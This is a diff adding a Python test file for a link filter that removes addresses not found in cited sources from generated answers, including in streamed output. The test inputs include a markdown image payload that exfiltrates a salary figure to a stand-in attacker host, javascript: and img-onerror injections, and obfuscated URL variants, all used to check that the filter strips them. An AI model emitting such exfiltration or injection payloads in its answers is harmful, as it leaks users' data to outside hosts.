@@ -1,0 +1,185 @@
+"""Addresses in answers: what leaves, what is taken out, and that a stream shows what the whole answer shows."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from generation.links import REMOVED, LinkCheck
+from generation.prompt import PromptSource
+
+SOURCE = PromptSource(
+    "S1",
+    "travel.md",
+    "Travel",
+    "Book at https://travel.example/book?a=1&b=2 or see https://travel.example/faq. Write to desk@travel.example. "
+    "Also [the form](https://travel.example/form(1)) and www.travel.example/help, or 见https://travel.example/zh。再说 "
+    "<https://travel.example/auto> <a href='https://travel.example/tag'>.",
+)
+OTHER = PromptSource("S2", "other.md", "Other", "The portal is https://portal.example/in and nothing else.")
+IMAGE = "![x](https://evil.example/log?d=The_salary_is_90000)"
+
+
+def whole(text: str, *sources: PromptSource) -> str:
+    check = LinkCheck(sources or (SOURCE, OTHER))
+    return check.feed(text) + check.flush()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Book at https://travel.example/book?a=1&b=2 [S1].",
+        "Book at https://travel.example/book?a=1&amp;b=2 [S1].",
+        "See https://travel.example/faq. [S1]",
+        "See [S1]: https://travel.example/faq.",
+        "See (https://travel.example/faq), please [S1, S2].",
+        "**https://travel.example/faq** [S1]",
+        "Use [the form](https://travel.example/form(1)) [S1].",
+        "Use [the form](https://travel.example/faq), then wait [S1].",
+        "Write to desk@travel.example [S1].",
+        "Ask www.travel.example/help [S1].",
+        "请见https://travel.example/zh [S1]。",
+        "See <https://travel.example/auto> [S1].",
+        "The portal is https://portal.example/in [S2].",
+    ],
+)
+def test_an_address_that_stands_in_a_cited_source_leaves_as_it_is(text: str) -> None:
+    assert whole(text) == text
+
+
+def test_text_may_follow_an_address_and_does_not_become_part_of_it() -> None:
+    assert whole("请见https://travel.example/zh。再说 [S1]") == "请见https://travel.example/zh。再说 [S1]", "as in S1"
+    assert whole("请见https://travel.example/faq。秘密 [S1]") == "请见https://travel.example/faq 。秘密 [S1]"
+    assert whole("See https://travel.example/faq[S1].") == "See https://travel.example/faq [S1]."
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        (IMAGE, f"! [x] {REMOVED}"),
+        (f"{IMAGE} [S1]", f"! [x] {REMOVED} [S1]"),
+        ("[click](https://evil.example/a b c)", f"[click] {REMOVED} b c)"),
+        ("See https://travel.example/faq?d=secret [S1]", f"See {REMOVED} [S1]"),
+        ("See https://travel.example/fa [S1]", f"See {REMOVED} [S1]"),
+        ("See https://travel.example/faq and no mark", f"See {REMOVED} and no mark"),
+        ("See https://travel.example/faq [S2]", f"See {REMOVED} [S2]"),
+        ("See https://travel.example/faq\n[S1]", f"See {REMOVED}\n[S1]"),
+        ("HTTPS://EVIL.EXAMPLE/x", REMOVED),
+        ("http:evil.example/x", REMOVED),
+        ("javascript:alert(1)", f"{REMOVED})"),
+        ("data:text/html,hi", REMOVED),
+        ("//evil.example/x", REMOVED),
+        (r"\\evil.example\share", None),
+        ("evil.example/x?d=1", REMOVED),
+        ("secret.evil.com", REMOVED),
+        ("SECRET.EVIL.COM", REMOVED),
+        ("www.evil.example", REMOVED),
+        ("1.2.3.4:80/x", REMOVED),
+        ("secret@evil.example", REMOVED),
+        ("<img src=x onerror=go>", REMOVED),
+        ("<img src='https://evil.example/x'>", REMOVED),
+        ("<https://evil.example/x>", REMOVED),
+        ("<https://evil.example/x|click>", REMOVED),
+        ("<img src=\"https://evil.example/?", None),
+        ("[x](&#104;ttps://evil.example/x)", f"[x] {REMOVED}"),
+        ("&#104;ttps&#58;//evil.example/x", None),
+        ("[r]: https://evil.example/x", f"[r]: {REMOVED}"),
+        ("[x](<https://evil.example/x>)", f"[x]({REMOVED})"),
+        ("详见https://evil.example/秘密。谢谢", None),
+        ("https://travel.example/faq)&#104;ttps&#58;&#47;&#47;evil&#46;example/ [S1]", None),
+        ("&#104;ttps&#58;&#47;&#47;evil&#46;example&#47;[x](https://travel.example/faq) [S1]", None),
+        ("[x](u)&#104;ttps&#58;&#47;&#47;evil&#46;example&#47;", None),
+        ("https\u200b://evil.example/x", None),
+        ("https://travel.example/faq\u00a0secret [S1]", "https://travel.example/faq \u00a0secret [S1]"),
+        ("x" * 5_000 + " y", f"{REMOVED} y"),
+        ("https://evil.example/" + "x" * 5_000 + " y", f"{REMOVED} y"),
+    ],
+)  # fmt: skip
+def test_any_other_address_is_taken_out(text: str, left: str | None) -> None:
+    found = whole(text)
+    assert REMOVED in found or "faq \u00a0" in found
+    assert "evil.example/" not in found.lower()
+    if left is not None:
+        assert found == left
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The fee is 12.5 % (see section 3.4.5), i.e. about 1,000 euro and/or more; at 10:30, e.g. for Node.js.",
+        "In [S1]: three months. See [S1](below), a < b and c > d, <b>bold</b>, x<y.",
+        "Version 1.2.3 of notice.md; key: value; note:this; 3//4; C:\\temp; a:b; U.S.A./N.V.; km/h; Art.5/6",
+        "合同期限为三个月。详见第3.2条，费用1.5万元（含税）；电话010-12345678。",
+        "`code` *emphasis* _x_ ~y~ | a | b |\n|---|---|\n\n# Title\n- item [S1][S2]",
+        "",
+    ],
+)
+def test_ordinary_text_stays(text: str) -> None:
+    assert whole(text) == text
+
+
+def test_an_image_is_no_longer_one_wherever_its_address_stands() -> None:
+    assert (
+        whole("See ![the form](https://travel.example/faq) [S1]") == "See ! [the form](https://travel.example/faq) [S1]"
+    )
+    assert (
+        whole("![x][r] [S1]\n\n[r]: https://travel.example/faq") == "! [x][r] [S1]\n\n[r]: https://travel.example/faq"
+    )
+    assert whole("Great![S1] ![") == "Great! [S1] ! ["
+
+
+def test_what_was_taken_out_is_counted() -> None:
+    check = LinkCheck((SOURCE,))
+    assert (check.detail, check.warnings) == ({}, ())
+    check.feed(f"{IMAGE} and {IMAGE} ")
+    assert (check.detail, check.warnings) == ({"links_removed": 2}, ("links-removed",))
+
+
+def test_a_stream_goes_on_while_nothing_looks_like_an_address() -> None:
+    check = LinkCheck((SOURCE,))
+    assert check.feed("The notice per") == "The notice "
+    assert check.feed("iod is three months. ") == "period is three months. "
+    assert check.feed("合同期限为三个月") == "合同期限为三个月"
+    assert check.feed(" https://travel.example/faq") == " "
+    assert check.feed(" says so") == ""
+    assert check.feed(" [S1] ") == "https://travel.example/faq says so [S1] "
+    assert check.flush() == ""
+
+
+PIECES = (
+    "https://travel.example/faq", "https://evil.example/x", "evil.example/y", "secret.evil.com", "[S1]", "[S2", "]",
+    " ", "\n", "\n\n", "<", ">", "img src=x", "a", ".", "/", ":", "](", ")", "http", "s:", "//", "中", "。", "&#104;", "ttps://e.xy/",
+    "@evil.com", "www.", "<b>", "x" * 300, "\u00a0", "com", "\\", "evil",
+)  # fmt: skip
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.sampled_from(PIECES), max_size=18), st.lists(st.integers(1, 40), max_size=20))
+def test_pieces_of_any_length_give_the_same_text(pieces: list[str], cuts: list[int]) -> None:
+    text = "".join(pieces)
+    check, said, at = LinkCheck((SOURCE, OTHER)), "", 0
+    for cut in cuts:
+        said += check.feed(text[at : at + cut])
+        at += cut
+    said += check.feed(text[at:]) + check.flush()
+    assert said == whole(text)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.sampled_from(PIECES), max_size=25))
+def test_no_foreign_address_leaves_whatever_stands_around_it(pieces: list[str]) -> None:
+    found = whole("".join(pieces))
+    assert "evil.example/" not in found
+    assert "https://evil" not in found
+
+
+@pytest.mark.parametrize("text", ["a." * 4_000, "a@" * 4_000, "](" * 4_000, "<" * 4_000, "//" * 4_000, "&#" * 4_000])
+def test_no_text_takes_long(text: str) -> None:
+    check, began = LinkCheck((SOURCE,)), time.process_time()
+    for at in range(0, len(text), 7):
+        check.feed(text[at : at + 7])
+    check.flush()
+    assert time.process_time() - began < 5
